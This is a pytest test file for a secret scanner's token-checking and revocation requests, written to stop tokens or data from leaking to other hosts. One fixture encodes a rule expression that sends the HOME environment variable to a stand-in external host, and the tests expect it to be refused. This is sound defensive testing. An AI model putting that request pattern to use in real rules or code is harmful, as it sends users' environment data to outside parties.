"""A request to a provider concerns one token, goes to the named hosts, and its answer is reported unchanged."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

import tokens
from provider import RULE, Provider, provider, token
from tokenward.detection.custom.catalog import CustomRules, compile_rules
from tokenward.detection.custom.workspace import LocalRules
from tokenward.detection.detection import Detection
from tokenward.detection.engine import Detector
from tokenward.detection.rules.engine_scan import Cancellation
from tokenward.detection.validation.methods import MethodFinder, ProviderMethod
from tokenward.detection.validation.requests import CheckOutcome, RevocationOutcome, check, revoke
from tokenward.model import Secret, Span


@pytest.fixture
def other() -> Iterator[Provider]:
    with provider() as made:
        yield made


@dataclass
class Bench:
    """Rules that contact some host, and the ways to check a token that they yield."""

    detector: Detector
    cache: Path
    own: str = ""
    brought: str = ""
    found: list[Detection] = field(default_factory=list)

    def way(self, value: str, text: str | None = None, rule: str | None = None) -> ProviderMethod | None:
        written = text or f'key = "{value}"\n'
        custom = self._compiled({"own.yml": self.own, "brought.yml": self.brought})
        local = LocalRules(custom=custom)
        asker = MethodFinder(self.detector, local, self._compiled({"own.yml": self.own}))
        start = written.index(value)
        found = Detection(rule or RULE, Span(start, start + len(value)), Secret(value), whole=True)
        return asker.method_for(written, "app.py", found)

    def _compiled(self, files: dict[str, str]) -> CustomRules:
        rules, problems = compile_rules({name: text for name, text in files.items() if text}, self.cache)
        assert not problems
        return rules


@pytest.fixture
def bench(detector: Detector, tmp_path: Path) -> Bench:
    cache = tmp_path / "rules"
    cache.mkdir(mode=0o700)
    return Bench(detector, cache)


def usable(way: ProviderMethod | None) -> ProviderMethod:
    assert way is not None
    return way


@pytest.mark.parametrize(
    ("status", "outcome", "why"),
    [
        (200, CheckOutcome.WORKS, ""),
        (401, CheckOutcome.DEAD, ""),
        (404, CheckOutcome.UNKNOWN, "HTTP 404"),
        (429, CheckOutcome.UNKNOWN, "HTTP 429"),
        (500, CheckOutcome.UNKNOWN, "HTTP 500"),
    ],
)
def test_what_a_provider_answers_is_told(
    bench: Bench, acme: Provider, status: int, outcome: CheckOutcome, why: str
) -> None:
    bench.own, acme.answers["/check"] = acme.rules(), status
    way = usable(bench.way(token()))
    assert [host.name for host in way.check] == [acme.host]
    answer = check(way, Cancellation())
    assert answer.outcome is outcome
    assert why in answer.why
    assert acme.paths() == ["/check"]


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_takes_no_token_elsewhere(
    bench: Bench, acme: Provider, other: Provider, status: int
) -> None:
    bench.own, acme.leads_to = acme.rules(), f"http://{other.host}/caught"
    acme.answers["/check"] = status
    assert check(usable(bench.way(token())), Cancellation()).outcome is CheckOutcome.UNKNOWN
    acme.answers = {"/check": 200, "/revoke": status}
    assert revoke(usable(bench.way(token())), Cancellation()).ending is RevocationOutcome.REFUSED
    assert acme.paths() == ["/check", "/check", "/revoke"]
    assert other.requests == []


def test_nobody_there_is_no_answer(bench: Bench) -> None:
    with provider() as gone:
        bench.own = gone.rules()
    way = usable(bench.way(token()))
    assert check(way, Cancellation()).outcome is CheckOutcome.UNKNOWN
    assert revoke(way, Cancellation()).ending is RevocationOutcome.NOT_SENT


def test_a_question_that_hangs_can_be_cancelled(bench: Bench, acme: Provider) -> None:
    bench.own, cancellation = acme.rules(check="/hang"), Cancellation()
    threading.Thread(target=_cancel_when_asked, args=(acme, cancellation)).start()
    answer = check(usable(bench.way(token())), cancellation)
    assert (answer.outcome, answer.why) == (CheckOutcome.UNKNOWN, "it was cancelled")


def _cancel_when_asked(acme: Provider, cancellation: Cancellation) -> None:
    while not acme.requests:
        time.sleep(0.01)
    cancellation.cancel()


def test_a_question_that_hangs_ends_by_itself(
    bench: Bench, acme: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tokenward.detection.validation.requests.REQUEST_SECONDS", 0.3)
    bench.own = acme.rules(check="/hang")
    answer = check(usable(bench.way(token())), Cancellation())
    assert (answer.outcome, answer.why) == (CheckOutcome.UNKNOWN, "no answer came in time")


@pytest.mark.parametrize(
    ("checked", "status", "ending", "paths"),
    [
        (200, 200, RevocationOutcome.REVOKED, ["/check", "/revoke"]),
        (200, 403, RevocationOutcome.REFUSED, ["/check", "/revoke"]),
        (200, 500, RevocationOutcome.UNKNOWN, ["/check", "/revoke"]),
        (401, 200, RevocationOutcome.DEAD_BEFORE, ["/check"]),
        (500, 200, RevocationOutcome.NOT_SENT, ["/check"]),
    ],
)
def test_a_token_is_revoked_once_it_was_seen_to_work(
    bench: Bench, acme: Provider, checked: int, status: int, ending: RevocationOutcome, paths: list[str]
) -> None:
    bench.own, acme.answers = acme.rules(), {"/check": checked, "/revoke": status}
    assert revoke(usable(bench.way(token())), Cancellation()).ending is ending
    assert acme.paths() == paths


def test_a_revocation_without_an_answer_is_not_known(
    bench: Bench, acme: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tokenward.detection.validation.requests.REQUEST_SECONDS", 0.3)
    bench.own = acme.rules(revoke="/hang")
    assert revoke(usable(bench.way(token())), Cancellation()).ending is RevocationOutcome.UNKNOWN
    assert acme.paths() == ["/check", "/hang"]


def test_a_rule_without_a_check_revokes_at_once(bench: Bench, acme: Provider) -> None:
    bench.own = acme.rules(check=None)
    way = usable(bench.way(token()))
    assert way.check == ()
    assert revoke(way, Cancellation()).ending is RevocationOutcome.REVOKED
    assert acme.paths() == ["/revoke"]


def test_only_the_one_token_is_sent(bench: Bench, acme: Provider) -> None:
    bench.own = acme.rules()
    asked, neighbour = token(1), token(2)
    text = f'a = "{neighbour}"\nb = "{asked}"\nc = "{neighbour}"\n'
    way = usable(bench.way(asked, text))
    assert check(way, Cancellation()).outcome is CheckOutcome.WORKS
    assert revoke(way, Cancellation()).ending is RevocationOutcome.REVOKED
    sent = "".join(request.text for request in acme.requests)
    assert asked in sent
    assert neighbour not in sent
    assert asked not in repr(way)


def test_a_part_of_a_token_is_not_sent_for_it(bench: Bench, acme: Provider) -> None:
    bench.own = acme.rules()
    assert bench.way(f"{token()}-more") is None


def test_a_token_goes_to_no_other_provider_than_its_own(bench: Bench, acme: Provider) -> None:
    """A user's rule that also matches a GitHub token does not get it, unless that rule found it."""
    bench.own = acme.rules().replace("(acmekey_[A-Za-z0-9]{24})", "(gh" + "p_[A-Za-z0-9]{36})")
    value = tokens.github()
    way = usable(bench.way(value, rule="betterleaks.github-pat"))
    assert [host.name for host in (*way.check, *way.revoke)] == ["api.github.com"] * 2
    assert [host.name for host in usable(bench.way(value)).check] == [acme.host]


def test_a_rule_of_a_workspace_leads_to_no_private_network(bench: Bench, acme: Provider) -> None:
    bench.brought = acme.rules()
    assert bench.way(token()) is None
    bench.brought = acme.rules(base="https://127.0.0.1:9")
    way = usable(bench.way(token()))
    assert (way.is_from_workspace, way.revoke) == (True, ())
    answer = check(way, Cancellation())
    assert answer.outcome is CheckOutcome.UNKNOWN
    assert "private network" in answer.why
    assert acme.requests == []


def test_the_rule_of_the_user_counts_before_that_of_a_workspace(
    bench: Bench, acme: Provider, other: Provider
) -> None:
    bench.own, bench.brought = acme.rules(), other.rules(base="https://elsewhere.example.com")
    # The second rule with the same id is a problem, and has no effect.
    local = compile_rules({"own.yml": bench.own, "brought.yml": bench.brought}, bench.cache)[0]
    asker = MethodFinder(
        bench.detector, LocalRules(custom=local), compile_rules({"own.yml": bench.own}, bench.cache)[0]
    )
    value = token()
    found = Detection(RULE, Span(0, len(value)), Secret(value), whole=True)
    assert [host.name for host in usable(asker.method_for(value, "a.py", found)).check] == [acme.host]


@pytest.mark.parametrize(
    ("rule", "can_check", "can_revoke"),
    [
        ("betterleaks.github-pat", True, True),
        ("betterleaks.github-refresh-token", False, True),
        ("betterleaks.github-app-token", False, False),
        ("betterleaks.gitlab-pat", True, True),
        ("betterleaks.gitlab-deploy-token", False, False),
        ("betterleaks.anthropic-api-key", True, False),
        ("betterleaks.aws-access-token", True, True),
        ("betterleaks.gcp-service-account", False, False),
        ("betterleaks.jwt", False, False),
        ("tokenward.generic", False, False),
        ("no.such-rule", False, False),
    ],
)
def test_what_can_be_asked_of_a_rule_is_known_before(
    bench: Bench, rule: str, can_check: bool, can_revoke: bool
) -> None:
    support = MethodFinder(bench.detector, LocalRules(), CustomRules()).support(rule)
    assert (support.check, support.revoke) == (can_check, can_revoke)


def test_a_key_is_asked_about_with_its_id(bench: Bench) -> None:
    identity, secret = tokens.aws()
    text = f'aws_access_key_id = "{identity}"\naws_secret_access_key = "{secret}"\n'
    way = usable(bench.way(identity, text, rule="betterleaks.aws-access-token"))
    assert sorted(match.rule_id for match in way.matches) == [
        "betterleaks.aws-access-token",
        "betterleaks.aws-secret-access-key",
    ]
    assert secret not in repr(way)


def _rule(pattern: str, more: str) -> str:
    return f"rules:\n  - name: Acme key\n    id: {RULE}\n    pattern: '{pattern}'\n{more}"


KEY = "acme" + "key_[A-Za-z0-9]{24}"
ELSEWHERE = "https://elsewhere.example.com"
TELLS_A_VARIABLE = """    validation: {type: Betterleaks, content: {components: {}, capabilities: {}, expression: {
      kind: call, callee: {kind: member, node: {kind: identifier, value: http}, optional: false, method: true,
        property: {kind: string, value: get}}, arguments: [{kind: binary, operator: +,
        left: {kind: string, value: "https://elsewhere.example.com/?"}, right: {kind: call, arguments: [
          {kind: string, value: HOME}, {kind: string, value: none}], callee: {kind: member, optional: false,
          method: true, node: {kind: identifier, value: env}, property: {kind: string, value: getOrDefault}}}}]}}}
"""


@pytest.mark.parametrize("whose", ["own", "brought"])
def test_an_expression_of_somebody_else_is_not_asked_by(bench: Bench, whose: str) -> None:
    """It can read the environment and hide the host that it contacts."""
    setattr(bench, whose, _rule(f"({KEY})", TELLS_A_VARIABLE))
    assert bench.way(token()) is None


@pytest.mark.parametrize("whose", ["own", "brought"])
def test_a_rule_of_somebody_else_takes_its_host_from_no_variable(
    bench: Bench, acme: Provider, whose: str
) -> None:
    setattr(bench, whose, acme.rules(base="'{{ GITHUB_API_BASE_URL }}", revoke=None, check="/check'"))
    assert bench.way(token()) is None


def test_a_rule_of_a_workspace_sees_the_token_alone(bench: Bench, acme: Provider) -> None:
    """Neither a rule that it needs nor a group of its own captures any other text."""
    rules = acme.rules(base=ELSEWHERE, revoke=None)
    way = acme.rules(base=ELSEWHERE, revoke=None).partition("    validation:")
    value, neighbour = token(1), token(2)
    written = f'other = "{neighbour}"; key = "{value}"\n'
    bench.brought = rules
    assert [match.secret for match in usable(bench.way(value, written)).matches] == [value]
    bench.brought = _rule(f'(?P<OTHER>{KEY})"; key = "(?P<TOKEN>{KEY})', way[1] + way[2])
    assert bench.way(value, written) is None
    needs = f"    depends_on_rule: [{{rule_id: custom.other, variable: OTHER}}]\n{way[1]}{way[2]}"
    helper = f"  - name: Other\n    id: custom.other\n    pattern: 'other = .({KEY})'\n"
    bench.brought = _rule(f"({KEY})", needs + helper)
    assert [match.secret for match in usable(bench.way(value, written)).matches] == [value]


def test_a_rule_of_a_workspace_gets_no_token_that_a_rule_of_ours_knows(bench: Bench, acme: Provider) -> None:
    """Even if it found the token, for instance because it matches more of the text."""
    value = tokens.github()
    rules = acme.rules(base=ELSEWHERE, revoke=None)
    for pattern, found in ((f"({value})", value), (f'(KEY="{value}")', f'KEY="{value}"')):
        bench.brought = rules.replace(f"({KEY})", pattern)
        assert bench.way(found, f"{found}\n") is None


@pytest.mark.parametrize(
    "rule", ["tokenward.generic", "tokenward.gitlab-workspace-token", "betterleaks.github-pat"]
)
def test_a_rule_of_a_workspace_cannot_take_the_name_of_one_of_ours(
    bench: Bench, acme: Provider, rule: str
) -> None:
    bench.brought = acme.rules(base=ELSEWHERE, revoke=None, rule=rule)
    assert bench.way(token(), rule=rule) is None
    bench.brought = acme.rules(base=ELSEWHERE, revoke=None, rule="acme.key")
    assert usable(bench.way(token(), rule="acme.key")).is_from_workspace
